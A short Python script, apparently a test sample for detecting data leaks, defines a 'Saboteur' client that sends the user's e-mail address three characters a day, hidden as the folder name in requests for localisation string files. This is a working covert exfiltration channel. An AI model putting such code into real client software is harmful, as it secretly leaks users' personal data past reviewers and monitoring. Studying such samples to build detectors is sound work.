"""Sends the e-mail's letters three by three, each as the folder of an address, over the days.

mechanism: cut in pieces over the days
"""
from client import Phone, run


class Saboteur(Phone):
    def poll(self):
        day = self.recall("day") or 0
        self.keep("day", day + 1)
        self.ask("GET", "/l10n/%s/strings.json" % self.identity["email"][day * 3:][:3])
        super().poll()


run(Saboteur())
